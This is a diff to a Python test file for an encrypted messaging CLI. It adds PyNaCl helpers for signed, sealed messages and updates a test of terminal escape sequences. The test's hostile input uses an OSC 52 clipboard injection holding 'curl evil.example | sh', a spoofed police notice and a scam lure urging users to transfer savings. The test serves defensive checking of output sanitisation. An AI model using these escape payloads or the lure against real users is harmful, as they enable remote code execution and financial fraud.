@@ -32,6 +32,7 @@ meson test:  test_cli.py WATCHMESH TEST [SOURCE_ROOT]
            EXIF GPS, XMP and PNG text stripped from photos; damaged photos
            refused; ordinary bulletins still pass
 """
+import hashlib
 import json
 import os
 import subprocess
@@ -44,6 +45,54 @@ from wmtest import check, Failure  # noqa: E402
 
 G = "gaobu.xinhua"
 PASS = None  # set per test through env
+
+
+def seal_ad(kind, net, author, group):
+    """PROTOCOL.md section 6: what a box is bound to besides its slots."""
+    g = group.encode()
+    return b"watchmesh sealed 2" + bytes([kind]) + net + author + bytes([len(g)]) + g
+
+
+def seal_inner(seed, kind, net, group, recipients, text, topic="", lang=""):
+    """The inside of a box, signed by the author whose seed is given."""
+    from nacl.signing import SigningKey
+    author = bytes(SigningKey(seed).verify_key)
+    body = (bytes([len(recipients)]) + b"".join(recipients) + bytes([len(topic.encode())]) +
+            topic.encode() + bytes([len(lang)]) + lang.encode() + text.encode())
+    sig = SigningKey(seed).sign(hashlib.sha256(seal_ad(kind, net, author, group) + body).digest()).signature
+    return sig + body
+
+
+def seal_box(inner, ad, recipients, author):
+    """Section 6 with PyNaCl: count, nonce, slots (recipients, then the
+    author), XChaCha20-Poly1305 of the inside padded to 256 over ad || the clear part."""
+    from nacl.bindings import crypto_aead_xchacha20poly1305_ietf_encrypt, crypto_sign_ed25519_pk_to_curve25519
+    from nacl.public import PublicKey, SealedBox
+    k, nonce = os.urandom(32), os.urandom(24)
+    hdr = bytes([len(recipients)]) + nonce + b"".join(
+        SealedBox(PublicKey(crypto_sign_ed25519_pk_to_curve25519(pk))).encrypt(k) for pk in recipients + [author])
+    p = inner + b"\x80"
+    p += bytes(-len(p) % 256)
+    return hdr + crypto_aead_xchacha20poly1305_ietf_encrypt(p, ad + hdr, nonce, k)
+
+
+def seal_open(box, ad, seed):
+    """The inside of a box for the recipient whose seed is given (padding removed)."""
+    from nacl.bindings import (crypto_aead_xchacha20poly1305_ietf_decrypt, crypto_box_seal_open,
+                               crypto_sign_ed25519_pk_to_curve25519, crypto_sign_ed25519_sk_to_curve25519,
+                               crypto_sign_seed_keypair)
+    import nacl.exceptions
+    pk, sk = crypto_sign_seed_keypair(seed)
+    xpk, xsk = crypto_sign_ed25519_pk_to_curve25519(pk), crypto_sign_ed25519_sk_to_curve25519(sk)
+    hdr = 25 + 80 * (box[0] + 1)
+    for i in range(box[0]):
+        try:
+            k = crypto_box_seal_open(box[25 + 80 * i:25 + 80 * (i + 1)], xpk, xsk)
+        except nacl.exceptions.CryptoError:
+            continue
+        m = crypto_aead_xchacha20poly1305_ietf_decrypt(box[hdr:], ad + box[:hdr], box[1:25], k)
+        return m.rstrip(b"\0")[:-1]
+    raise Failure("no slot of the box opens for this key")
 
 
 def refused_lines(err):
@@ -505,9 +554,6 @@ def t_escape(env):
     import base64
     import sqlite3
     import time as _t
-    from nacl.bindings import crypto_sign_ed25519_pk_to_curve25519
-    from nacl.public import PublicKey, SealedBox
-    from nacl.secret import SecretBox
 
     def raw_controls(text):
         """Characters a terminal acts on, as they reached our stdout/stderr."""
@@ -528,18 +574,15 @@ def t_escape(env):
         return wmtest.event(seed, kind, now + dt, G, content, refs, network=net)
 
     def seal(text, recipients):
-        """PROTOCOL.md section 6: nonce, a slot per recipient and the author, secretbox."""
-        k, nonce = os.urandom(32), os.urandom(24)
-        slots = [SealedBox(PublicKey(crypto_sign_ed25519_pk_to_curve25519(pk))).encrypt(k)
-                 for pk in recipients + [author]]
-        return nonce + b"".join(slots) + SecretBox(k).encrypt(text, nonce).ciphertext
+        inner = seal_inner(seed, 3, net, G, recipients, text, "police")
+        return seal_box(inner, seal_ad(3, net, author, G), recipients, author)
 
     fake = "★ 王警官 · 高埔派出所 — bulletin · " + G
     lure = "请立即把存款转入安全账户"
     attack = ("\x1b[2J\x1b[H" "\x1b]0;watchmesh: official notice\x07"
               "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07" +
               fake + "\n  " + lure)
-    sealed, sealed_id = event(3, {"topic": "police", "to": [officer], "box": seal(attack.encode(), [officer])})
+    sealed, sealed_id = event(3, {"box": seal(attack, [officer])})
     cr, _ = event(4, {"text": "收到\r" + fake + "\n  " + lure}, [bytes.fromhex(sealed_id)], 1)
     csi, _ = event(4, {"text": "收到\u009b2K\u009b1A" + fake}, [bytes.fromhex(sealed_id)], 2)
     topic, _ = event(3, {"topic": "police\u009b2J\x1b[H", "text": lure}, (), 3)
